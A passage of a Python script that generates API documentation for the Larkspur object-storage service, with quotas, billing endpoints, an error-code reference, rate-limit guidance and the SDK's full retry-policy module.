    ("requests_per_second", "5,000", "100,000", "Sustained request rate; see [Rate limits](#rate-limits)."),
    ("egress_bytes_per_day", "50 TiB", "none", "Bytes served to the internet per UTC day."),
    ("replication_rules_per_bucket", "5", "5", "Hard limit; cannot be raised."),
    ("lifecycle_rules_per_bucket", "100", "1,000", "Rules in one configuration."),
]

RESOURCES.append(
    Resource(
        title="Quotas",
        singular="quota",
        plural="quotas",
        intro="""
        Quotas cap how much of something a project can use. They exist to stop runaway scripts
        and compromised keys from running up a bill or exhausting a shared resource, not to sell
        you a bigger plan, and most can be raised with a request that is usually approved
        automatically within minutes. Usage is measured every five minutes, so a burst can
        overshoot a quota briefly before requests start failing with `403 quota_exceeded`.
    """,
        before=[
            "### Default quotas",
            "\x00"
            + table(
                ["Quota", "Default", "Maximum", "Counts"],
                ["l", "r", "r", "l"],
                [[f"`{q}`", d, m, c] for q, d, m, c in QUOTAS],
            ),
        ],
        endpoints=[
            Endpoint(
                title="List quotas and usage",
                method="GET",
                path="/v2/quotas",
                scope="objects:read",
                summary="""
                Returns every quota with its limit, current usage and the time usage was measured.
                A quota at more than 80 percent also triggers the `quota.threshold` webhook event,
                once per crossing, which is a better alert than polling this endpoint.
            """,
                params=[
                    ("near_limit", "query", "boolean", "no", "Only quotas above 80 percent."),
                    ("names", "query", "string", "no", "Comma-separated quota names."),
                    ("fields", "query", "string", "no", "As elsewhere."),
                    ("format", "query", "string", "no", "`json` (default) or `prometheus` for a scrape endpoint."),
                ],
                response={
                    "data": [
                        {
                            "name": "buckets_per_project",
                            "limit": 1000,
                            "usage": 37,
                            "measured_at": "2025-03-04T09:15:00.000Z",
                        },
                        {
                            "name": "bytes_stored",
                            "limit": 109951162777600,
                            "usage": 92311870220412,
                            "measured_at": "2025-03-04T09:15:00.000Z",
                        },
                        {
                            "name": "requests_per_second",
                            "limit": 5000,
                            "usage": 3120,
                            "measured_at": "2025-03-04T09:15:00.000Z",
                        },
                    ]
                },
                response_note="Returns `200 OK` with every quota, or only those asked for.",
                sdk=("for q in client.quotas.list", {"near_limit": True}),
                py_after="""
                    print(f"{q.name}: {q.usage / q.limit:.0%}")
            """,
            ),
            Endpoint(
                title="Request a quota increase",
                method="POST",
                path="/v2/quotas/{quota_name}/increase-requests",
                scope="admin",
                summary="""
                Asks for a higher limit. Requests up to twice the current limit, and up to the
                maximum in the table above, are approved automatically unless the project is less
                than 30 days old or has unpaid invoices. Anything else goes to a person, who
                answers within one business day and may ask what the capacity is for; the
                `justification` you give here saves a round of email.
            """,
                params=[
                    ("limit", "body", "integer", "yes", "The limit you want."),
                    ("justification", "body", "string", "no", "What the capacity is for, up to 2,000 characters."),
                    (
                        "contact_email",
                        "body",
                        "string",
                        "no",
                        "Where to send questions. Default: the caller's address.",
                    ),
                ],
                body={
                    "limit": 219902325555200,
                    "justification": "Migrating the 東京 office's video archive (about 80 TiB) in April.",
                },
                status="201 Created",
                response={
                    "id": "qir_7a3c9e1f0b52",
                    "quota": "bytes_stored",
                    "requested_limit": 219902325555200,
                    "state": "approved",
                    "decided_at": "2025-03-04T09:15:23.662Z",
                },
                response_note="Returns `201 Created` with the request; `state` is `approved`, `pending` or `declined`.",
                errors=[
                    ("400", "quota_not_adjustable", "The quota is a hard limit."),
                    ("409", "quota_request_pending", "A request for this quota is already waiting for review."),
                ],
                sdk=(
                    "req = client.quotas.request_increase",
                    {
                        "name": "bytes_stored",
                        "limit": 200 * 2**40,
                        "justification": "Video archive migration in April.",
                    },
                ),
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Billing
# --------------------------------------------------------------------------------------------

INVOICE_EXAMPLE = {
    "id": "inv_2025_02_4f1c9a",
    "period": {"start": "2025-02-01", "end": "2025-02-28"},
    "state": "finalized",
    "currency": "EUR",
    "lines": [
        {"item": "storage.standard", "quantity": 61.42, "unit": "TiB-month", "unit_price": 18.0, "amount": 1105.56},
        {"item": "storage.infrequent", "quantity": 22.10, "unit": "TiB-month", "unit_price": 9.5, "amount": 209.95},
        {"item": "requests.class_a", "quantity": 3.91, "unit": "million", "unit_price": 4.2, "amount": 16.42},
        {"item": "requests.class_b", "quantity": 61.3, "unit": "million", "unit_price": 0.34, "amount": 20.84},
        {"item": "egress.internet", "quantity": 1.18, "unit": "TiB", "unit_price": 0.0, "amount": 0.0},
        {"item": "replication.transfer", "quantity": 4.77, "unit": "TiB", "unit_price": 12.0, "amount": 57.24},
    ],
    "subtotal": 1410.01,
    "tax": 267.90,
    "total": 1677.91,
    "issued_at": "2025-03-01T06:00:00.000Z",
    "due_at": "2025-03-31T00:00:00.000Z",
}

RESOURCES.append(
    Resource(
        title="Billing",
        singular="invoice",
        plural="invoices",
        intro="""
        Larkspur bills monthly in arrears, per project, in the currency of the organization's
        billing account. Storage is metered as the average of hourly samples over the month;
        requests are metered in two classes (class A: writes and lists; class B: reads and
        `HEAD`); egress to the internet is free up to the volume of data stored, and charged
        beyond that. The billing endpoints need `billing:read`; no endpoint changes payment
        details, which are managed only in the console, behind a second factor.

        Amounts are JSON numbers in the invoice currency with two decimal places. Do not add them
        up in binary floating point if the result matters; use a decimal type, as the SDK does.
    """,
        fields=[
            ("id", "string", "Identifier, `inv_<year>_<month>_<project>`."),
            ("period", "object", "First and last day covered."),
            ("state", "string", "`draft` (current month), `finalized`, `paid` or `void`."),
            ("currency", "string", "ISO 4217 code: `EUR`, `USD`, `JPY` or `BRL`."),
            ("lines", "object[]", "One line per billable item."),
            ("subtotal", "number", "Sum of the lines."),
            ("tax", "number", "Tax, when applicable to your billing address."),
            ("total", "number", "Amount due."),
            ("issued_at", "timestamp", "When the invoice was finalized."),
            ("due_at", "timestamp", "Payment due date."),
        ],
        example=INVOICE_EXAMPLE,
        variant={
            "id": "inv_2025_01_4f1c9a",
            "period": {"start": "2025-01-01", "end": "2025-01-31"},
            "state": "paid",
            "subtotal": 1366.40,
            "tax": 259.62,
            "total": 1626.02,
            "issued_at": "2025-02-01T06:00:00.000Z",
            "due_at": "2025-03-03T00:00:00.000Z",
        },
        endpoints=[
            Endpoint(
                title="Get usage for the current month",
                method="GET",
                path="/v2/billing/usage",
                scope="billing:read",
                summary="""
                Returns the current month's metered usage and an estimate of the invoice, updated
                hourly. The estimate assumes usage continues at the rate of the last seven days,
                which is a poor guess in the first few days of a month and a good one after that.
            """,
                params=[
                    ("breakdown", "query", "string", "no", "`bucket` or `region` to split usage."),
                    ("month", "query", "string", "no", "`YYYY-MM`; default the current month."),
                    (
                        "currency",
                        "query",
                        "string",
                        "no",
                        "Show amounts converted to this currency, at the day's rate; for information only.",
                    ),
                    p_fields(),
                ],
                query={"breakdown": "region"},
                response={
                    "month": "2025-03",
                    "as_of": "2025-03-04T09:00:00.000Z",
                    "currency": "EUR",
                    "to_date": 185.23,
                    "estimate": 1702.80,
                    "by_region": [
                        {"region": "eu-central-1", "to_date": 151.07},
                        {"region": "us-east-2", "to_date": 34.16},
                    ],
                },
                response_note="Returns `200 OK` with usage to date and the month-end estimate.",
                sdk=("usage = client.billing.usage", {"breakdown": "region"}),
                py_after="""
                print(f"{usage.to_date} {usage.currency} so far, about {usage.estimate} by month end")
            """,
            ),
            Endpoint(
                title="List invoices",
                method="GET",
                path="/v2/billing/invoices",
                scope="billing:read",
                summary="Lists invoices, newest first. The current month's draft is included with `state: draft`.",
                params=[
                    ("state", "query", "string", "no", "`draft|finalized|paid|void`."),
                    ("year", "query", "integer", "no", "Only invoices for periods in this year."),
                    p_limit("invoices", 12, 100),
                    p_cursor(),
                ],
                query={"year": 2025},
                response="list",
                sdk=("invoices = client.billing.invoices", {"year": 2025}),
            ),
            Endpoint(
                title="Retrieve an invoice",
                method="GET",
                path="/v2/billing/invoices/{invoice_id}",
                scope="billing:read",
                summary="""
                Returns one invoice with its lines. Line items are stable identifiers you can map
                to your own cost categories; new items are announced in the changelog before they
                first appear on an invoice.
            """,
                params=[
                    p_fields(),
                    ("breakdown", "query", "string", "no", "`bucket` to split each line by bucket."),
                    ("If-None-Match", "header", "string", "no", "Answers `304` if unchanged."),
                ],
                sdk=("invoice = client.billing.invoice", {"invoice_id": "inv_2025_02_4f1c9a"}),
                py_after="""
                from decimal import Decimal
                assert sum(Decimal(str(line.amount)) for line in invoice.lines) == Decimal(str(invoice.subtotal))
            """,
            ),
            Endpoint(
                title="Download an invoice as PDF",
                method="GET",
                path="/v2/billing/invoices/{invoice_id}/pdf",
                scope="billing:read",
                summary="""
                Returns the invoice as a PDF, the legally binding form, in the language of the
                billing account. Drafts cannot be downloaded. The response is a redirect to a
                signed URL valid for five minutes, which most clients follow automatically.
            """,
                params=[
                    ("language", "query", "string", "no", "`en`, `de`, `fr`, `ja` or `pt-BR`."),
                    ("disposition", "query", "string", "no", "`inline` or `attachment` (default)."),
                    ("copy", "query", "boolean", "no", "Mark the PDF as a copy (Duplikat, 写し …)."),
                ],
                response="""
                ~~~http
                HTTP/1.1 302 Found
                Location: https://eu-central-1.larkspur.example/v2/buckets/_invoices/objects/inv_2025_02_4f1c9a.pdf?lk-exp=300&lk-sig=9be1…
                ~~~
            """,
                response_note="Returns `302 Found` with the signed URL in `Location`.",
                errors=[("409", "invoice_not_final", "The invoice is still a draft.")],
                curl="""
                curl -L "https://api.larkspur.example/v2/billing/invoices/inv_2025_02_4f1c9a/pdf?language=de" \\
                  -H "Authorization: Bearer $LARKSPUR_TOKEN" \\
                  -o Rechnung-2025-02.pdf
            """,
                python="""
                pdf: bytes = client.billing.invoice_pdf("inv_2025_02_4f1c9a", language="de")
                Path("Rechnung-2025-02.pdf").write_bytes(pdf)
            """,
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Errors
# --------------------------------------------------------------------------------------------

# (code, HTTP status, retry advice, meaning)
ERROR_CODES = [
    (
        "bad_request",
        400,
        "no",
        "The request is malformed in a way no more specific code describes. The message says how.",
    ),
    (
        "invalid_json",
        400,
        "no",
        "The body is not valid JSON, or not UTF-8. The message gives the byte offset of the first problem.",
    ),
    (
        "unknown_field",
        400,
        "no",
        "The body has a field the endpoint does not know, usually a typo. Fields are never ignored silently.",
    ),
    ("missing_parameter", 400, "no", "A required parameter is absent. `details.parameter` names it."),
    (
        "invalid_parameter",
        400,
        "no",
        "A parameter has the wrong type or is out of range. `details.parameter` names it.",
    ),
    ("cursor_mismatch", 400, "no", "A cursor was reused with different filters from those it was issued for."),
    ("cursor_expired", 400, "no", "The cursor is more than 24 hours old. Start the listing again."),
    ("malformed_header", 400, "no", "A header is syntactically invalid, for example uses obsolete line folding."),
    ("invalid_bucket_name", 400, "no", "The bucket name breaks a naming rule; the message says which."),
    (
        "invalid_key",
        400,
        "no",
        "The object key is empty, over 1,024 bytes, not UTF-8, contains NUL or starts with `/`.",
    ),
    ("metadata_too_large", 400, "no", "User metadata exceeds 2 KiB in total."),
    ("invalid_cors_rule", 400, "no", "A CORS rule is invalid; `details.index` says which."),
    (
        "checksum_mismatch",
        400,
        "yes, resend",
        "A checksum header does not match the bytes received. Often a bug, sometimes the network.",
    ),
    ("copy_to_self", 400, "no", "Copying an object onto itself without changing anything."),
    ("too_many_objects", 400, "no", "A batch request lists more than 1,000 objects."),
    ("expiry_too_long", 400, "no", "A signed URL or token would outlive the limit or its parent credential."),
    ("part_too_small", 400, "no", "A part other than the last is under 5 MiB."),
    ("part_etag_mismatch", 400, "no", "A completion names a part entity tag the server does not hold."),
    ("parts_not_ascending", 400, "no", "A completion lists parts out of order or twice."),
    ("invalid_part_number", 400, "no", "A part number is outside 1 to 10,000."),
    ("invalid_cidr", 400, "no", "An IP range is not valid CIDR notation."),
    ("unsupported_grant_type", 400, "no", "The token endpoint does not support the grant type."),
    ("email_domain_blocked", 400, "no", "The organization does not allow invitations to this email domain."),
    ("webhook_url_not_https", 400, "no", "The webhook URL is not HTTPS or points at a non-public address."),
    ("export_range_invalid", 400, "no", "An audit export range is empty, reversed or older than 400 days."),
    ("same_region_replication", 400, "no", "Replication source and destination are in the same region."),
    (
        "invalid_lifecycle_configuration",
        400,
        "no",
        "The lifecycle configuration is invalid; `details` lists every problem.",
    ),
    ("quota_not_adjustable", 400, "no", "The quota is a hard limit."),
    ("range_too_long", 400, "no", "A usage query spans more than 93 days."),
    ("confirmation_mismatch", 400, "no", "`confirm` does not repeat the project's slug."),
    ("unauthenticated", 401, "no", "No credential was sent."),
    ("invalid_token", 401, "no", "The bearer token is not a Larkspur credential, or is malformed."),
    ("token_expired", 401, "refresh first", "The access token has expired. Mint a new one."),
    ("key_revoked", 401, "no", "The API key was revoked."),
    (
        "request_time_skewed",
        401,
        "yes, once",
        "`Larkspur-Date` is more than five minutes from server time; the body has the server time.",
    ),
    ("signature_missing", 401, "no", "A signed request lacks a signed header that must be signed."),
    ("invalid_subject_token", 401, "no", "The SSO assertion for a token exchange is invalid."),
    (
        "insufficient_scope",
        403,
        "no",
        "The credential lacks a scope the endpoint requires; `details.required` lists it.",
    ),
    (
        "signature_mismatch",
        403,
        "no",
        "The request signature does not match. The body has the canonical request the server computed.",
    ),
    ("key_restriction_violated", 403, "no", "The key may not be used for this bucket or from this address."),
    ("quota_exceeded", 403, "after increase", "A quota would be exceeded; `details.quota` names it."),
    ("scope_escalation", 403, "no", "A key or token would get a scope its creator lacks."),
    ("role_escalation", 403, "no", "A member would get or lose a role the caller cannot grant."),
    ("organization_owner_required", 403, "no", "Only organization owners may do this."),
    ("object_retained", 403, "no", "The object is under retention and cannot be deleted or overwritten yet."),
    (
        "destination_consent_required",
        403,
        "no",
        "Cross-project replication has not been allowed by the destination's owners.",
    ),
    (
        "project_suspended",
        403,
        "after payment",
        "The project is suspended for unpaid invoices; reads work, writes do not.",
    ),
    ("test_key_live_bucket", 403, "no", "A `test` key was used on a bucket whose name does not start with `test-`."),
    ("project_not_found", 404, "no", "No such project, or not visible to the caller."),
    ("bucket_not_found", 404, "no", "No such bucket, or not visible to the caller."),
    ("object_not_found", 404, "no", "No current object with this key, or no such version."),
    ("source_not_found", 404, "no", "The source of a copy does not exist."),
    ("upload_not_found", 404, "no", "No such multipart upload; it may have been aborted or expired."),
    ("key_not_found", 404, "no", "No such API key in the project."),
    ("user_not_found", 404, "no", "No such member of the project."),
    ("webhook_not_found", 404, "no", "No such webhook."),
    ("event_not_found", 404, "no", "No such audit event, or older than 400 days."),
    ("lifecycle_not_configured", 404, "no", "The bucket has no lifecycle configuration."),
    ("invoice_not_found", 404, "no", "No such invoice."),
    ("method_not_allowed", 405, "no", "The path exists but does not support the method."),
    ("not_acceptable", 406, "no", "`Accept` excludes every format the endpoint can produce."),
    ("bucket_exists", 409, "no", "The project already has a bucket with this name."),
    ("bucket_not_empty", 409, "no", "The bucket still holds objects, versions or upload parts."),
    ("bucket_has_replication_source", 409, "no", "Another bucket replicates into this one."),
    ("public_name_taken", 409, "no", "Another project's public bucket has this name."),
    ("versioning_irreversible", 409, "no", "Versioning cannot be disabled once enabled; suspend it instead."),
    ("versioning_required", 409, "no", "Replication needs versioning on both buckets."),
    ("replication_loop", 409, "no", "The rule would replicate in a cycle."),
    ("object_archived", 409, "after restore", "The object is archived; restore it first."),
    ("upload_already_completed", 409, "no", "The multipart upload is completed; no more changes."),
    ("key_already_rotating", 409, "no", "The key already has a successor."),
    ("already_member", 409, "no", "The user is already a member of the project."),
    ("last_owner", 409, "no", "The project would be left without an owner."),
    ("slug_taken", 409, "no", "The project slug is in use in the organization."),
    ("project_not_empty", 409, "no", "A purge was asked for but the project holds objects."),
    ("quota_request_pending", 409, "no", "An increase request for this quota is already waiting."),
    ("invoice_not_final", 409, "no", "The invoice is still a draft."),
    (
        "concurrent_modification",
        409,
        "yes",
        "Another request changed the same resource at the same moment. Read it again and retry.",
    ),
    ("gone", 410, "no", "The endpoint has passed its sunset date."),
    ("length_required", 411, "no", "`Content-Length` is missing or chunked encoding was used."),
    ("precondition_failed", 412, "no", "An `If-Match`, `If-None-Match` or stored upload condition failed."),
    ("object_too_large", 413, "no", "The body is larger than a single `PUT` allows. Use a multipart upload."),
    ("request_too_large", 413, "no", "A JSON body is over 1 MiB."),
    ("unsupported_media_type", 415, "no", "The `Content-Type` of a JSON endpoint is not `application/json`."),
    ("range_not_satisfiable", 416, "no", "The `Range` cannot be served."),
    ("idempotency_key_reused", 422, "no", "An `Idempotency-Key` was reused with a different request body."),
    ("region_unavailable", 422, "no", "The region is not open to the organization."),
    ("api_version_unsupported", 422, "no", "The `Larkspur-Version` date is not supported."),
    ("webhook_verification_failed", 422, "after fix", "The webhook's `ping` got no `2xx` answer."),
    ("storage_class_unavailable", 422, "no", "The storage class is not offered in the bucket's region."),
    (
        "precondition_required",
        428,
        "no",
        "The bucket requires `If-Match` on every write (setting `require_conditional_writes`).",
    ),
    ("rate_limited", 429, "after `Retry-After`", "Too many requests; see [Rate limits](#rate-limits)."),
    ("concurrency_limited", 429, "after `Retry-After`", "Too many requests in flight at once for this key."),
    (
        "internal_error",
        500,
        "with backoff",
        "Something failed on our side. Retry; if it persists, contact support with the request ID.",
    ),
    (
        "replication_target_unavailable",
        502,
        "automatic",
        "Reported on replication rules, not requests: the destination cannot be written.",
    ),
    ("service_unavailable", 503, "with backoff", "The service is overloaded or in maintenance. `Retry-After` is set."),
    (
        "region_degraded",
        503,
        "with backoff",
        "The region is operating with reduced capacity; see the [status page][status].",
    ),
    (
        "timeout",
        504,
        "with backoff",
        "The request did not complete in time. Idempotent requests can be retried safely.",
    ),
]

ERRORS = [
    md("""
        ## Errors

        ### The error envelope

        Every error response, whatever the endpoint, has a JSON body of the same shape, and the
        HTTP status code means what [RFC 9110][rfc9110] says it means. Branch on `code`, which is
        stable and documented below; show `message` to developers, not end users, as its wording
        changes between releases and it is always in English.

        ```json
        {
          "error": {
            "code": "bucket_not_empty",
            "status": 409,
            "message": "Bucket media-eu-old still holds 1,204 objects and 3 non-current versions.",
            "request_id": "req_5c0b2e9f8a7d6c4b3a21",
            "details": {"objects": 1204, "noncurrent_versions": 3, "uploads": 0},
            "doc_url": "https://docs.larkspur.example/errors#bucket_not_empty"
          }
        }
        ```

        The only responses without an envelope are `HEAD` responses, which cannot have a body
        and carry the code in a `Larkspur-Error-Code` header instead, and errors produced by
        something between you and Larkspur, such as a corporate proxy, which you will recognise
        by the missing `Larkspur-Request-Id` header.

        ### Which errors to retry

        Retry `429`, `500`, `502`, `503` and `504` with exponential backoff, and retry network
        errors, but only for requests that are idempotent or carry an `Idempotency-Key`. Never
        retry other `4xx` responses unchanged: they will fail the same way. The two exceptions
        are `401 request_time_skewed`, which you can retry once after correcting your clock
        offset, and `400 checksum_mismatch` on an upload, which usually means the bytes were
        damaged in transit and is worth one more attempt before you suspect your own code. The
        SDK's retry policy, shown in full in [the retry module](#the-retry-module-in-full),
        implements exactly these rules.

        ### Error code reference

        The table lists every code the version 2 API returns. New codes may be added at any time;
        treat an unknown code by its HTTP status.
    """),
    table(
        ["Code", "Status", "Retry", "Meaning"],
        ["l", "c", "l", "l"],
        [[f"`{c}`", str(s), r, m] for c, s, r, m in ERROR_CODES],
    ),
    md("""
        <details>
        <summary>Version 1 error codes and their version 2 equivalents</summary>

        Version 1 returned a flat `{"error": "...", "reason": "..."}` body with fewer, coarser
        codes. If you still parse version 1 errors, map them like this:

        - `NoSuchBucket` became `bucket_not_found`.
        - `NoSuchKey` and `NoSuchVersion` both became `object_not_found`; when a delete marker
          hides the key, the `404` carries `details.delete_marker: true`.
        - `AccessDenied` was split into `insufficient_scope`, `key_restriction_violated`,
          `object_retained` and `signature_mismatch`.
        - `SlowDown` became `rate_limited`, now with `Retry-After`.
        - `InternalError` is still `internal_error`.
        - `EntityTooLarge` became `object_too_large` or `request_too_large`, depending on the body.

        </details>
    """),
]


# --------------------------------------------------------------------------------------------
# Rate limits (a setext heading)
# --------------------------------------------------------------------------------------------

RATE_LIMITS = [
    md("""
        Rate limits
        -----------

        Rate limits protect the service and you: a runaway loop in one of your workers should
        slow down, not take the rest of your project with it. Limits apply per API key (or per
        token's parent key, or per user for console sessions), per region, and are enforced with
        a token bucket: each key has a bucket of request credits that refills at a steady rate up
        to a maximum, and each request takes one credit. The maximum is what allows bursts.

        ### Limits by endpoint class

        | Class | Endpoints | Sustained rate | Burst |
        |:------|:----------|---------------:|------:|
        | Object reads | `GET`, `HEAD` on objects; signed URL reads | 5,000 / s | 20,000 |
        | Object writes | `PUT`, copy, delete, upload parts | 1,500 / s | 6,000 |
        | Listings | List objects, list uploads, list parts | 300 / s | 1,200 |
        | Control plane | Projects, buckets, keys, users, webhooks, rules | 50 / s | 200 |
        | Audit and billing | Audit events and exports, usage, invoices | 10 / s | 40 |
        | Token endpoint | Mint, introspect, revoke | 20 / s | 100 |

        Reads through a public bucket without credentials are limited per client IP instead, at
        a tenth of the object read rate. Requests rejected by the rate limiter are not billed.

        ### Rate limit headers

        Every response carries the state of the bucket that the request drew from, in the
        standard headers, plus the class:

        ~~~http
        RateLimit-Limit: 1500
        RateLimit-Remaining: 1187
        RateLimit-Reset: 1
        Larkspur-RateLimit-Class: object-writes
        ~~~

        `RateLimit-Reset` is the number of seconds until the bucket is full again, not a
        timestamp. When `RateLimit-Remaining` approaches zero, slow down before you are refused;
        the SDK does this for you by spacing requests when fewer than 5 percent of credits are
        left.

        ### Handling `429 Too Many Requests`

        A refused request answers `429` with code `rate_limited` and a `Retry-After` header in
        seconds, which may be fractional. Wait at least that long. If many workers share a key,
        they will all be told to retry after the same interval, and if they all do exactly that,
        they will all be refused again together. Add jitter.

        #### Backoff with *full jitter*

        The SDK's strategy, which we recommend to anyone writing their own client, waits a random
        time between zero and an exponentially growing cap, and never less than `Retry-After`:

        ```python
        import random

        def backoff(attempt: int, retry_after: float | None, base: float = 0.25, cap: float = 20.0) -> float:
            exp = min(cap, base * 2 ** attempt)
            delay = random.uniform(0, exp)
            return max(delay, retry_after or 0.0)
        ```

        #### Concurrency limits

        Separately from the rate, each key may have at most 512 requests in flight at once per
        region; the 513th is refused with `429 concurrency_limited`. This mostly affects
        uploads of many parts in parallel from a single host. If you hit it, you will not get
        more throughput from more parallelism anyway.
    """),
]


# --------------------------------------------------------------------------------------------
# SDK guide
# --------------------------------------------------------------------------------------------

RETRY_MODULE = md('''
    ```python
    """Retry policy of the Larkspur SDK (larkspur/_retry.py, version 3.8.1).

    The policy decides, for each failed attempt, whether to try again and how long to wait.
    It is deliberately conservative: it never retries a request that could have had an effect
    unless the request is idempotent by method or carries an Idempotency-Key.
    """

    from __future__ import annotations

    import logging
    import random
    import time
    from dataclasses import dataclass, field
    from email.utils import parsedate_to_datetime
    from typing import Callable, Iterator

    from ._errors import ApiError, ChecksumMismatch, ClockSkew, NetworkError
    from ._http import Request, Response

    log = logging.getLogger("larkspur.retry")

    IDEMPOTENT_METHODS = frozenset({"GET", "HEAD", "PUT", "DELETE", "OPTIONS"})
    RETRYABLE_STATUS = frozenset({429, 500, 502, 503, 504})


    @dataclass
    class RetryPolicy:
        """How the client retries. Pass an instance as ``Client(retry=...)``."""

        max_attempts: int = 5
        base_delay: float = 0.25
        max_delay: float = 20.0
        total_timeout: float | None = 120.0
        retry_checksum_mismatch: bool = True
        jitter: Callable[[float], float] = field(default=lambda cap: random.uniform(0.0, cap))
        sleep: Callable[[float], None] = field(default=time.sleep, repr=False)

        def __post_init__(self) -> None:
            if self.max_attempts < 1:
                raise ValueError("max_attempts must be at least 1")
            if self.base_delay <= 0 or self.max_delay < self.base_delay:
                raise ValueError("need 0 < base_delay <= max_delay")

        # -- decisions ---------------------------------------------------------------------

        def is_safe_to_retry(self, request: Request) -> bool:
            return request.method in IDEMPOTENT_METHODS or "Idempotency-Key" in request.headers

        def should_retry(self, request: Request, error: Exception, attempt: int) -> bool:
            if attempt >= self.max_attempts:
                return False
            if isinstance(error, ClockSkew):
                # Retried once, after the transport has corrected its clock offset.
                return attempt == 1
            if isinstance(error, ChecksumMismatch):
                return self.retry_checksum_mismatch and attempt == 1 and request.body_is_replayable
            if not self.is_safe_to_retry(request):
                return False
            if isinstance(error, NetworkError):
                return True
            if isinstance(error, ApiError):
                return error.status in RETRYABLE_STATUS
            return False

        def delay(self, attempt: int, response: Response | None) -> float:
            cap = min(self.max_delay, self.base_delay * 2 ** (attempt - 1))
            wait = self.jitter(cap)
            hint = retry_after(response)
            if hint is not None:
                wait = max(wait, hint)
            return wait

        # -- the loop ----------------------------------------------------------------------

        def attempts(self, request: Request) -> Iterator[int]:
            """Yield attempt numbers until the caller stops or the policy gives up."""
            started = time.monotonic()
            attempt = 1
            while True:
                yield attempt
                attempt += 1
                if self.total_timeout is not None and time.monotonic() - started > self.total_timeout:
                    log.warning("giving up on %s %s after %.1fs", request.method, request.path, self.total_timeout)
                    return

        def run(self, request: Request, send: Callable[[Request], Response]) -> Response:
            last_error: Exception | None = None
            for attempt in self.attempts(request):
                response: Response | None = None
                try:
                    response = send(request)
                    if response.status < 400:
                        return response
                    raise ApiError.from_response(response)
                except (ApiError, NetworkError, ChecksumMismatch, ClockSkew) as error:
                    last_error = error
                    if not self.should_retry(request, error, attempt):
                        raise
                    wait = self.delay(attempt, response)
                    log.info(
                        "retrying %s %s in %.2fs (attempt %d of %d): %s",
                        request.method, request.path, wait, attempt + 1, self.max_attempts, error,
                    )
                    request = request.rewind()
                    self.sleep(wait)
            assert last_error is not None
            raise last_error


    def retry_after(response: Response | None) -> float | None:
        """Seconds from a Retry-After header, which may be a number or an HTTP date."""
        if response is None:
            return None
        value = response.headers.get("Retry-After")
        if not value:
            return None
        try:
            return max(0.0, float(value))
        except ValueError:
            pass
        try:
            when = parsedate_to_datetime(value)
        except (TypeError, ValueError):
            log.debug("ignoring unparseable Retry-After %r", value)
            return None
        return max(0.0, when.timestamp() - time.time())


    NO_RETRY = RetryPolicy(max_attempts=1)
    DEFAULT = RetryPolicy()
    ```
''')

CLIENT_OPTIONS = [
    ("token", "str", "`$LARKSPUR_TOKEN`", "API key or access token."),
    (
        "token_next",
        "str",
        "`$LARKSPUR_TOKEN_NEXT`",
        "Tried first when set; see [rotating keys](#rotating-a-key-without-downtime).",
    ),
    ("project", "str", "`$LARKSPUR_PROJECT`", "Sent as `X-Larkspur-Project`."),
    ("region", "str", "`None`", "Default region for data-plane calls; discovered per bucket when unset."),
    ("api_version", "str", '`"2025-03-01"`', "Sent as `Larkspur-Version` on every request."),
    (
        "timeout",
        "float | Timeout",
        "`Timeout(connect=5, read=60)`",
        "Per attempt. Uploads and downloads time out on idle, not on total time.",
    ),
    ("retry", "RetryPolicy", "`DEFAULT`", "See [the retry module](#the-retry-module-in-full)."),
    (
        "signing",
        "bool",
        "`False`",
        "Sign requests instead of sending the key; see [request signing](#how-request-signing-works).",
    ),
    ("verify_checksums", "bool", "`True`", "Verify CRC32C on downloads and send it on uploads."),
    ("http2", "bool", "`True`", "Use HTTP/2 where the server offers it."),
    ("proxy", "str", "`$HTTPS_PROXY`", "Proxy URL."),
    ("user_agent_suffix", "str", '`""`', "Appended to the `User-Agent`, for example your app's name and version."),
    ("max_connections", "int", "`64`", "Connection pool size per host."),
    ("multipart_threshold", "int", "`100 * 2**20`", "Uploads larger than this use multipart."),
]

SDK_GUIDE = [
    md("""
        ## SDK guide

        `larkspur` is the official Python SDK. It covers the whole API, handles pagination,
        retries, multipart uploads and checksums for you, and has both a synchronous and an
        asyncio client with the same methods. It supports CPython 3.9 and newer and PyPy 3.10,
        follows [Semantic Versioning][semver], and is developed in the open: the
        [source is on GitHub][sdk-repo].

        ### Installing

        ```bash
        python -m pip install "larkspur>=3.8,<4"
        # optional extras: faster CRC32C, and the command-line client
        python -m pip install "larkspur[crc32c,cli]>=3.8,<4"
        ```

        Without the `crc32c` extra, checksums are computed in pure Python at about 150 MB/s,
        which becomes the bottleneck for uploads on fast networks. With it, they cost nothing
        measurable.

        ### Configuring the client

        `Client()` with no arguments reads its configuration from the environment, which is
        what you want in containers. Everything can also be passed explicitly:
    """),
    table(
        ["Option", "Type", "Default", "Meaning"],
        ["l", "l", "l", "l"],
        [[f"`{a}`", f"`{b}`", c, d] for a, b, c, d in CLIENT_OPTIONS],
    ),
    md("""
        ```python
        from larkspur import Client, RetryPolicy, Timeout

        client = Client(
            project="prj_4f1c9a0e7b2d",
            timeout=Timeout(connect=3, read=30),
            retry=RetryPolicy(max_attempts=8, max_delay=30),
            user_agent_suffix="thumbnailer/2.4.0",
        )
        ```

        Clients are thread-safe and hold a connection pool; create one per process and share it.
        Creating a client per request works, but wastes the TLS handshakes that the pool saves.

        ### Pagination

        Every `list` method returns a lazy iterator that fetches pages as you consume it. To
        work page by page, for example to checkpoint a long job, use `.pages()` and keep the
        cursor:

        ```python
        pages = client.objects.list("media-eu", prefix="originals/").pages(cursor=checkpoint.load())
        for page in pages:
            process(page.items)
            checkpoint.save(page.next_cursor)   # resume from here after a crash
        ```

        Converting a listing to a list, as in `list(client.objects.list("media-eu"))`, reads the
        whole bucket into memory. That is fine for a few thousand objects and a bad idea for a
        few million.

        ### Retries, timeouts and idempotency

        The client retries transient failures according to its `RetryPolicy`: up to five
        attempts, exponential backoff with full jitter starting at 250 ms and capped at 20
        seconds, never sooner than `Retry-After`, and never longer than two minutes in total.
        It adds an `Idempotency-Key` to every `POST` it sends, so that creating a bucket or
        minting a token is as safe to retry as a `GET`. You can pass your own key with
        `idempotency_key=` on any create method, which is useful when the logical operation
        spans process restarts: derive the key from your own job ID and a retry after a crash
        will not create a duplicate.

        Timeouts are per attempt. For uploads and downloads the read timeout applies to each
        wait for data, not to the whole transfer, so a 50 GiB download does not need a 50-minute
        timeout, only a server that keeps sending.

        #### The retry module in full

        The whole policy is one small module, reproduced here because people ask exactly how it
        behaves, and reading it is faster than reading a description of it.
    """),
    RETRY_MODULE,
    md("""
        ### Async usage

